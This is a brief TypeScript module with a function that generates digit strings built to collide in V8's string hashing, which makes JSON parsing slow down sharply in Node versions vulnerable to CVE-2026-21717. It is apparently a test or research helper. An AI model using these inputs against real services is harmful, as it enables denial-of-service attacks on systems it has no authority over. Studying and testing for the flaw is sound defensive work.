const BUCKETS = 2 ** 13
/** V8 does not treat larger numbers as array indexes. */
const MAX_INDEX = 2 ** 32 - 2

/**
 * Digit strings, some `letters` of JSON in all, whose numbers differ by multiples of a power of two. V8 before Node
 * 24.14.1 hashed such a string by its number, so that each was compared with all previous ones (CVE-2026-21717).
 */
export function collidingTexts(letters: number): string[] {
  const texts: string[] = []
  let length = 0
  for (let number = 5; number <= MAX_INDEX; number += BUCKETS) {
    const text = String(number)
    length += text.length + 3
    if (length > letters) break
    texts.push(text)
  }
  return texts
}
